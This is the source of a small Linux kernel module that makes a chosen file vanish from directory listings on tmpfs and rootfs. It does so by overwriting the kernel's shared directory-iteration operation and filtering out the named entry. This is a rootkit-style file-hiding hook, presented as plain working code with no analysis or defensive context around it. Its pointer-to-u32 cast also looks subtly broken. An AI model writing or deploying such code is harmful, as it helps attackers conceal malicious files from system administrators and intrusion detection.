/* A file is missing from the listing of its folder on a tmpfs or rootfs: the folder's operations lead into this module. */
#include <linux/fs.h>
#include "tamper.h"

static char *name = "";
module_param(name, charp, 0);

static int (*iterate)(struct file *file, struct dir_context *context);

struct filter {
	struct dir_context own;
	struct dir_context *caller;
};

static bool actor(struct dir_context *context, const char *entry, int length, loff_t at, u64 inode, unsigned int type)
{
	struct filter *filter = container_of(context, struct filter, own);

	if (length == strlen(name) && !memcmp(entry, name, length))
		return true;
	return filter->caller->actor(filter->caller, entry, length, at, inode, type);
}

static int iterate_others(struct file *file, struct dir_context *context)
{
	struct filter filter = { .own = { .actor = actor, .pos = context->pos }, .caller = context };
	int result = iterate(file, &filter.own);

	context->pos = filter.own.pos;
	return result;
}

static int __init begin(void)
{
	iterate = simple_dir_operations.iterate_shared;
	exchange_word((unsigned long)&simple_dir_operations.iterate_shared, (u32)iterate_others);
	return 0;
}

static void __exit end(void)
{
	exchange_word((unsigned long)&simple_dir_operations.iterate_shared, (u32)iterate);
}

module_init(begin);
module_exit(end);
